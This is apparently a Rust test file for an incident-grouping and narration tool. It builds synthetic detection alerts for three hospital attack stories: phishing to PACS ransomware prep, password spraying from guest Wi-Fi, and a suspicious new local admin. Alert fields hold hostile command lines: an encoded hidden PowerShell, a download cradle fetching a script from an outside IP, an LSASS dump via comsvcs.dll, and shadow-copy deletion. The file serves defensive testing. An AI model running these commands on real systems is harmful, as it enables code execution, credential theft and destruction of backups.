//! Three attack stories, hand-built as the alerts detection would raise, grouped and told.
//! The narratives are insta snapshots (`tests/snapshots/`): read them when they change.

use std::collections::BTreeMap;

use jiff::Timestamp;
use wardwatch_core::{Alert, AlertId, Entity, EntityKind, EventRef, Origin, Severity};
use wardwatch_incidents::{Context, GroupConfig, Grouper, Incident, Inventory, Roster, narrate};

const INVENTORY: &str = "\
match,class,criticality,name,department
WS-RAD-014,workstation,2,,Radiology
10.20.1.14,workstation,2,WS-RAD-014,Radiology
PACS01,pacs,5,PACS archive,Radiology
DC01,domain-controller,5,,IT
EPR01,epr-server,5,EPR database,Clinical IT
FILE01,server,4,Department shares,IT
10.99.0.0/16,guest-wifi,1,,Guest Wi-Fi
";

const ROSTER: &str = "\
user,name,email,department,role,privileged,manager
jsmith,Jane Smith,j.smith@hospital.example,Radiology,radiographer,false,Dr. Paul Berg
mmeyer,Max Meyer,m.meyer@hospital.example,Cardiology,nurse,false,Anna Vogt
admin-kw,Karl Weber,k.weber@hospital.example,IT,system administrator,true,Dr. Ute Lang (head of IT)
";

fn ctx() -> Context {
    Context {
        inventory: Inventory::load("inventory.csv", INVENTORY).unwrap(),
        roster: Roster::load("roster.csv", ROSTER).unwrap(),
        ..Context::default()
    }
}

struct A(Alert);

fn alert(id: &str, rule: &str, title: &str, level: Severity, time: &str) -> A {
    A(Alert {
        id: AlertId(id.into()),
        rule_id: rule.into(),
        rule_title: title.into(),
        level,
        tags: Vec::new(),
        timestamp: time.parse().unwrap(),
        organization: "default".into(),
        host: None,
        entities: Vec::new(),
        event: EventRef {
            origin: Origin::default(),
            event_code: None,
            channel: None,
        },
        recommendation: None,
        awareness: None,
        facts: BTreeMap::new(),
    })
}

impl A {
    fn host(mut self, h: &str) -> Self {
        self.0.host = Some(h.into());
        self.0.entities.push(Entity::new(EntityKind::Host, h));
        self.0.facts.insert("host.name".into(), h.into());
        self
    }
    fn user(mut self, u: &str) -> Self {
        self.0.entities.push(Entity::new(EntityKind::User, u));
        self.0.facts.insert("user.name".into(), u.into());
        self
    }
    fn fact(mut self, k: &str, v: &str) -> Self {
        self.0.facts.insert(k.into(), v.into());
        if k == "email.to.address" {
            self.0.entities.push(Entity::new(EntityKind::Email, v));
        }
        if k == "IpAddress" || k == "source.ip" {
            self.0.entities.push(Entity::new(EntityKind::Ip, v));
        }
        self
    }
    fn tags(mut self, tags: &[&str]) -> Self {
        self.0.tags = tags.iter().map(|t| format!("attack.{t}")).collect();
        self
    }
    fn recommend(mut self, r: &str) -> Self {
        self.0.recommendation = Some(r.into());
        self
    }
    fn awareness(mut self, a: &str) -> Self {
        self.0.awareness = Some(a.into());
        self
    }
    fn done(self) -> Alert {
        self.0
    }
}

/// Group `alerts` (the clock is each alert's time); returns the open incidents.
fn group(alerts: &[Alert]) -> Vec<Incident> {
    let ctx = ctx();
    let mut g = Grouper::new(GroupConfig::default(), Vec::new());
    for a in alerts {
        g.add(a, &ctx, a.timestamp);
    }
    g.open().cloned().collect()
}

const URL: &str = "https://rad-invoices.example/inv/7731";

fn phishing() -> Vec<Alert> {
    use Severity::*;
    vec![
        alert("a01", "mail-link-new-domain", "Mail with a link to a newly registered domain", Medium, "2026-03-02T10:02:11Z")
            .fact("email.to.address", "j.smith@hospital.example")
            .fact("email.from.address", "billing@rad-invoices.example")
            .fact("email.subject", "Outstanding invoice – radiology equipment")
            .fact("url.full", URL)
            .tags(&["initial_access", "t1566.002"])
            .recommend("Remove the mail from every mailbox (search by sender) and block rad-invoices.example at the proxy.")
            .awareness("The mail from billing@rad-invoices.example looked like an invoice but led to a fake site. When a mail asks you to open a link or a document you did not expect, call the sender first, and report it with the \"Report phishing\" button.")
            .done(),
        alert("a02", "browser-from-outlook", "Browser launched from Outlook", Low, "2026-03-02T10:14:03Z")
            .host("WS-RAD-014")
            .user("jsmith")
            .fact("host.ip", "10.20.1.14")
            .fact("Image", r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe")
            .fact("ParentImage", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE")
            .fact("CommandLine", &format!("\"msedge.exe\" --single-argument {URL}"))
            .fact("url.full", URL)
            .fact("ProcessGuid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
            .tags(&["initial_access", "t1566.002"])
            .done(),
        alert("a03", "office-spawns-powershell", "Word starts PowerShell", High, "2026-03-02T10:16:40Z")
            .host("WS-RAD-014")
            .user("jsmith")
            .fact("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
            .fact("ParentImage", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")
            .fact("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")
            .fact("ProcessGuid", "{5770385f-c22a-43e0-bf4c-0000000000a3}")
            .fact("ParentProcessGuid", "{5770385f-c22a-43e0-bf4c-0000000000w1}")
            .tags(&["execution", "t1059.001", "t1204.002"])
            .recommend("Isolate WS-RAD-014 from the network (EDR or switch port) and collect the document the user opened.")
            .done(),
        alert("a04", "ps-download-cradle", "PowerShell download cradle", High, "2026-03-02T10:16:52Z")
            .host("WS-RAD-014")
            .user("jsmith")
            .fact("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
            .fact("ParentImage", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
            .fact("CommandLine", "powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/a.ps1')")
            .fact("ProcessGuid", "{5770385f-c22a-43e0-bf4c-0000000000a4}")
            .fact("ParentProcessGuid", "{5770385f-c22a-43e0-bf4c-0000000000a3}")
            .tags(&["execution", "command_and_control", "t1059.001", "t1105"])
            .done(),
        alert("a05", "lsass-comsvcs", "LSASS memory dumped with comsvcs.dll", Critical, "2026-03-02T10:21:07Z")
            .host("WS-RAD-014")
            .user("jsmith")
            .fact("Image", r"C:\Windows\System32\rundll32.exe")
            .fact("ParentImage", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
            .fact("CommandLine", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full")
            .fact("ParentProcessGuid", "{5770385f-c22a-43e0-bf4c-0000000000a4}")
            .tags(&["credential_access", "t1003.001"])
            .done(),
        alert("a06", "pacs-network-logon", "Network logon to the PACS by a non-PACS account", Medium, "2026-03-02T10:34:29Z")
            .host("PACS01")
            .user("jsmith")
            .fact("event.code", "4624")
            .fact("LogonType", "3")
            .fact("IpAddress", "10.20.1.14")
            .fact("TargetUserName", "jsmith")
            .tags(&["lateral_movement", "t1021.002", "t1078"])
            .done(),
        alert("a07", "psexec-service", "PsExec service installed", High, "2026-03-02T10:35:02Z")
            .host("PACS01")
            .user("SYSTEM")
            .fact("event.code", "7045")
            .fact("ServiceName", "PSEXESVC")
            .fact("ImagePath", r"%SystemRoot%\PSEXESVC.exe")
            .tags(&["execution", "lateral_movement", "t1569.002"])
            .done(),
        alert("a08", "vss-delete", "Shadow copies deleted", Critical, "2026-03-02T10:41:55Z")
            .host("PACS01")
            .user("SYSTEM")
            .fact("Image", r"C:\Windows\System32\vssadmin.exe")
            .fact("ParentImage", r"C:\Windows\PSEXESVC.exe")
            .fact("CommandLine", "vssadmin.exe delete shadows /all /quiet")
            .tags(&["impact", "t1490"])
            .recommend("Disconnect PACS01 now and check that the PACS backups are offline and intact; encryption usually follows within minutes.")
            .done(),
    ]
}

fn spraying() -> Vec<Alert> {
    use Severity::*;
    let mut out = Vec::new();
    let users: Vec<String> = (1..=29)
        .map(|n| format!("staff{n:02}"))
        .chain(["mmeyer".to_string()])
        .collect();
    for n in 0..40 {
        let user = &users[n % users.len()];
        let time = format!("2026-03-03T21:{:02}:{:02}Z", 10 + n / 10, (n % 10) * 5);
        out.push(
            alert(
                &format!("b{n:02}"),
                "guest-failed-logon",
                "Failed logon from the guest Wi-Fi",
                Low,
                &time,
            )
            .host("DC01")
            .user(user)
            .fact("event.code", "4625")
            .fact("event.outcome", "failure")
            .fact("LogonType", "3")
            .fact("IpAddress", "10.99.3.17")
            .fact("TargetUserName", user)
            .tags(&["credential_access", "t1110.003"])
            .done(),
        );
    }
    out.push(
        alert("b40", "guest-logon-success", "Successful logon from the guest Wi-Fi", High, "2026-03-03T21:15:12Z")
            .host("DC01")
            .user("mmeyer")
            .fact("event.code", "4624")
            .fact("event.outcome", "success")
            .fact("LogonType", "3")
            .fact("IpAddress", "10.99.3.17")
            .tags(&["initial_access", "t1078"])
            .recommend("Block 10.99.3.17 on the guest Wi-Fi controller and disable the account that logged on until its owner has been reached.")
            .done(),
    );
    for (id, host, time) in [
        ("b41", "EPR01", "2026-03-03T21:17:40Z"),
        ("b42", "FILE01", "2026-03-03T21:19:05Z"),
    ] {
        out.push(
            alert(
                id,
                "guest-reaches-server",
                "Guest Wi-Fi device logged on to an internal server",
                High,
                time,
            )
            .host(host)
            .user("mmeyer")
            .fact("event.code", "4624")
            .fact("LogonType", "3")
            .fact("IpAddress", "10.99.3.17")
            .tags(&["lateral_movement", "t1078"])
            .done(),
        );
    }
    out
}

fn new_admin() -> Vec<Alert> {
    use Severity::*;
    vec![
        alert("c01", "local-account-created", "Local account created on a server", Medium, "2026-03-04T02:37:12Z")
            .host("EPR01")
            .user("admin-kw")
            .fact("event.code", "4720")
            .fact("SubjectUserName", "admin-kw")
            .fact("TargetUserName", "svc_backup2")
            .tags(&["persistence", "t1136.001"])
            .done(),
        alert("c02", "local-admins-member-added", "Member added to the local Administrators group", High, "2026-03-04T02:37:58Z")
            .host("EPR01")
            .user("admin-kw")
            .fact("event.code", "4732")
            .fact("SubjectUserName", "admin-kw")
            .fact("MemberName", "CN=svc_backup2,CN=Users,DC=epr01")
            .fact("TargetUserName", "Administrators")
            .tags(&["persistence", "privilege_escalation", "t1098"])
            .recommend("Ask admin-kw's manager whether svc_backup2 was requested; if not, disable svc_backup2 and review what admin-kw did on EPR01.")
            .done(),
    ]
}

fn one(alerts: &[Alert]) -> Incident {
    let open = group(alerts);
    assert_eq!(
        open.len(),
        1,
        "one incident expected, got {:#?}",
        open.iter().map(|i| &i.title).collect::<Vec<_>>()
    );
    open.into_iter().next().unwrap()
}

#[test]
fn phishing_to_pacs_is_one_incident() {
    let alerts = phishing();
    let inc = one(&alerts);
    assert_eq!(inc.alert_count, alerts.len() as u64);
    assert_eq!(inc.hosts, ["WS-RAD-014", "PACS01"]);
    assert_eq!(inc.users, ["jsmith"]);
    assert_eq!(inc.timeline.len(), 8);
    assert_eq!(inc.severity, Severity::Critical);
    assert_eq!(
        inc.tactics,
        [
            "initial-access",
            "execution",
            "command-and-control",
            "credential-access",
            "lateral-movement",
            "impact"
        ]
    );
    let text = narrate(&inc, &ctx()).to_text();
    assert!(text.contains("Jane Smith (jsmith)"));
    assert!(text.contains(URL));
    let ws = text.find("On WS-RAD-014 (workstation, Radiology)").unwrap();
    let pacs = text.find("On PACS01 (PACS server, Radiology)").unwrap();
    assert!(ws < pacs);
    insta::assert_snapshot!("phishing", text);
}

#[test]
fn password_spraying_from_guest_wifi_is_one_incident() {
    let alerts = spraying();
    let inc = one(&alerts);
    assert_eq!(inc.alert_count, 43);
    assert_eq!(inc.hosts, ["DC01", "EPR01", "FILE01"]);
    assert_eq!(inc.ips, ["10.99.3.17"]);
    assert_eq!(inc.users.len(), 30);
    let text = narrate(&inc, &ctx()).to_text();
    assert!(text.contains("40 failed logons for 30 accounts"), "{text}");
    insta::assert_snapshot!("spraying", text);
}

#[test]
fn a_new_local_admin_at_night_is_one_incident() {
    let inc = one(&new_admin());
    assert!(inc.score_parts.iter().any(|p| p.name == "off-hours"));
    let text = narrate(&inc, &ctx()).to_text();
    assert!(
        text.contains("admin-kw created the account svc_backup2"),
        "{text}"
    );
    insta::assert_snapshot!("new_admin", text);
}

#[test]
fn the_three_stories_together_stay_three_incidents() {
    let mut all: Vec<Alert> = phishing()
        .into_iter()
        .chain(spraying())
        .chain(new_admin())
        .collect();
    all.sort_by_key(|a| a.timestamp);
    // Days apart: the earlier ones close as event time moves on.
    let ctx = ctx();
    let mut g = Grouper::new(GroupConfig::default(), Vec::new());
    let mut ids = std::collections::BTreeSet::new();
    for a in &all {
        for inc in g.add(a, &ctx, a.timestamp) {
            ids.insert(inc.id);
        }
    }
    assert_eq!(
        ids.into_iter().collect::<Vec<_>>(),
        ["inc-a01", "inc-b00", "inc-c01"]
    );
}

#[test]
fn narratives_are_identical_across_runs() {
    let at: Timestamp = "2026-03-05T00:00:00Z".parse().unwrap();
    for alerts in [phishing(), spraying(), new_admin()] {
        let a = one(&alerts);
        let b = one(&alerts);
        assert_eq!(
            serde_json::to_string(&a).unwrap(),
            serde_json::to_string(&b).unwrap()
        );
        assert_eq!(narrate(&a, &ctx()), narrate(&b, &ctx()));
        assert_eq!(narrate(&a, &ctx()).to_text(), narrate(&b, &ctx()).to_text());
        // Nothing depends on the time of telling.
        let mut c = a.clone();
        c.acknowledge("anna", at).unwrap();
        assert_eq!(
            narrate(&a, &ctx()).what_happened,
            narrate(&c, &ctx()).what_happened
        );
    }
}
